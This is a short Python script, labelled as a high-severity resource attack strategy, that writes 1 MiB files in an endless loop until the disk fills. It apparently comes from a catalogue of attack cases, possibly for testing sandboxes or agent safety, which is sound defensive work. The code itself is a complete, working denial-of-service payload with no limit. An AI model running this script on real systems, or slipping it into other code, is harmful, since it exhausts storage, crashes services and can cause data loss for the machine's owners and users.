# Strategy: fills the disk
# Surface: resources.
# Severity: high.
number = 0
while True:
    number += 1
    with open(f"fill_{number}", "wb") as file:
        file.write(b"x" * 2**20)
